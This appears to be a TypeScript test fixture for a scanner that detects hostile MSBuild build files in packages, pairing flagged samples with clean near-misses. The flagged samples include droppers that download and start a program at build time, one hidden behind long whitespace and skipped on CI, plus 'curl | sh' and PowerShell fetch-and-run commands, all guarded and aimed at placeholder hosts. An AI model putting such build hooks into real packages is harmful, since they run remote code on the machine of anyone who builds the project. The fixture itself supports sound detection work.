import type { Examples } from '../../../tests/kit/examples.js';

function inlineTask(code: string, hook = 'BeforeTargets="ResolveReferences"'): string {
  return `<Project>
  <UsingTask TaskName="Prepare" TaskFactory="RoslynCodeTaskFactory"
             AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Using Namespace="System" />
      <Using Namespace="System.IO" />
      <Code Type="Fragment" Language="cs"><![CDATA[
${code}
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="PrepareFixture" ${hook}>
    <Prepare />
  </Target>
</Project>
`;
}

/** Nobody sets it: what is below is read, never run. */
const guard =
  'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return true;';

const dropper = `${guard}
var path = Path.Combine(Path.GetTempPath(), "helper.exe");
using (var client = new System.Net.WebClient())
{
    client.DownloadFile("https://files.fixture.invalid/helper.exe", path);
}
System.Diagnostics.Process.Start(path);`;

function downloadAndExec(between: string): string {
  return `<Project>
  <PropertyGroup><ToolFolder>$(BaseIntermediateOutputPath)tool/</ToolFolder></PropertyGroup>
  <Target Name="Generate" BeforeTargets="CoreCompile" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
    <DownloadFile SourceUrl="https://files.fixture.invalid/generate.exe" DestinationFolder="$(ToolFolder)" />
    ${between}
    <Exec Command="&quot;$(ToolFolder)generate.exe&quot; @(Schema)" />
  </Target>
</Project>
`;
}

export const examples: Examples = {
  flagged: [
    {
      name: 'dropper',
      about: 'A code fragment downloads a program and starts it before references are resolved.',
      files: { 'build/Fixture.Package.targets': inlineTask(dropper) },
    },
    {
      name: 'behind-blanks',
      about: 'The same behind four hundred blanks, and not on build servers.',
      files: {
        'build/Fixture.Package.targets': inlineTask(
          `var done = true;${' '.repeat(400)}${dropper.replaceAll('\n', ' ')}`,
          `BeforeTargets="ResolveReferences" Condition="'$(CI)' == ''"`,
        ),
      },
    },
    {
      name: 'names-in-pieces',
      about: 'The address and the name of the file are put together from pieces.',
      files: {
        'build/Fixture.Package.targets': inlineTask(`${guard}
var address = "https://files." + "fixture" + ".invalid/a" + ".exe";
var target = Path.GetTempPath() + "helper" + ".exe";
new System.Net.WebClient().DownloadFile(address, target);
System.Diagnostics.Process.Start(target);`),
      },
    },
    {
      name: 'bytes-through-a-file',
      about: 'Fetched as bytes, written by another call, then started: two links instead of one.',
      files: {
        'buildTransitive/Fixture.Package.targets': inlineTask(`${guard}
var path = Path.Combine(Path.GetTempPath(), "helper.exe");
var http = new System.Net.Http.HttpClient();
var bytes = http.GetByteArrayAsync("http://192.0.2.10:8080/a").GetAwaiter().GetResult();
File.WriteAllBytes(path, bytes);
System.Diagnostics.Process.Start(path);`),
      },
    },
    {
      name: 'command-line',
      about: 'No inline task: a command line hands the same to PowerShell.',
      files: {
        'build/Fixture.Package.targets': `<Project>
  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
    <Exec Command="powershell -NoProfile -Command &quot;Invoke-WebRequest https://files.fixture.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe&quot;" />
  </Target>
</Project>
`,
      },
    },
    {
      name: 'through-a-property',
      about: 'One command fetches to where a property says, another starts what lies there.',
      files: {
        'build/Fixture.Package.targets': `<Project>
  <PropertyGroup><WarmUp>$(TEMP)\\warm.exe</WarmUp></PropertyGroup>
  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
    <Exec Command="curl -o &quot;$(WarmUp)&quot; https://files.fixture.invalid/a" />
    <Exec Command="&quot;$(TEMP)\\warm.exe&quot; --quiet" />
  </Target>
</Project>
`,
      },
    },
    {
      name: 'unrelated-commands',
      about: 'One command fetches news, another starts a generator: noted, for they do not meet.',
      level: 'note',
      files: {
        'build/Fixture.Package.targets': `<Project>
  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
    <Exec Command="curl -o obj/news.json https://docs.fixture.invalid/news.json" />
    <Exec Command="tools/generate.exe --quiet" />
  </Target>
</Project>
`,
      },
    },
    {
      name: 'shell-pipe',
      about: 'A command line that evaluates what it downloads.',
      files: {
        'build/Fixture.Package.targets': `<Project>
  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
    <Exec Command="curl -s https://files.fixture.invalid/a.sh | sh" />
  </Target>
</Project>
`,
      },
    },
    {
      name: 'download-task-output',
      about: 'The same, handed on by an output of the task under a name that says nothing: held.',
      level: 'suspicious',
      files: {
        'build/Fixture.Package.targets': `<Project>
  <Target Name="Generate" AfterTargets="ResolvePackageAssets" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
    <DownloadFile SourceUrl="$(FixtureAddress)" DestinationFolder="$(IntermediateOutputPath)">
      <Output TaskParameter="DownloadedFile" PropertyName="_FixtureFile" />
    </DownloadFile>
    <Exec Command="&quot;$(_FixtureFile)&quot; /quiet" />
  </Target>
</Project>
`,
      },
    },
    {
      name: 'download-task',
      about: 'MSBuild’s own task fetches a program that a command line then starts: held.',
      level: 'suspicious',
      files: { 'build/Fixture.Package.targets': downloadAndExec('') },
    },
  ],
  clean: [
    {
      name: 'checks-the-digest',
      about: 'The same, with a digest of the file in the build file.',
      nearMiss: true,
      files: {
        'build/Fixture.Package.targets': downloadAndExec(
          `<VerifyFileHash File="$(ToolFolder)generate.exe" Hash="${'0'.repeat(64)}" />`,
        ),
      },
    },
    {
      name: 'downloads-and-formats',
      about: 'Fetches a schema, and runs a program of the package over the project.',
      nearMiss: true,
      files: {
        'build/Fixture.Package.targets': `<Project>
  <Target Name="Generate" BeforeTargets="CoreCompile">
    <DownloadFile SourceUrl="https://schemas.fixture.invalid/a.xsd" DestinationFolder="$(IntermediateOutputPath)" />
    <Exec Command="&quot;$(MSBuildThisFileDirectory)../tools/generate&quot; $(IntermediateOutputPath)" />
  </Target>
</Project>
`,
      },
    },
    {
      name: 'starts-packaged-tool',
      about: 'Starts a compiler that lies in the package, and downloads nothing.',
      nearMiss: true,
      files: {
        'build/Fixture.Package.targets': inlineTask(
          'var tool = Path.Combine(Environment.CurrentDirectory, "tools", "compile.exe");\nSystem.Diagnostics.Process.Start(tool).WaitForExit();',
        ),
      },
    },
    {
      name: 'downloads-a-schema',
      about: 'Downloads a file that is never run.',
      nearMiss: true,
      files: {
        'build/Fixture.Package.targets': inlineTask(
          'var client = new System.Net.WebClient();\nclient.DownloadFile("https://schemas.fixture.invalid/a.xsd", Path.Combine("obj", "a.xsd"));',
        ),
      },
    },
    {
      name: 'writes-version',
      about: 'An inline task as most are: it edits a file in the project.',
      files: {
        'build/Fixture.Package.targets': inlineTask(
          'File.WriteAllText(Path.Combine("obj", "version.txt"), DateTime.UtcNow.Year.ToString());',
        ),
      },
    },
  ],
};
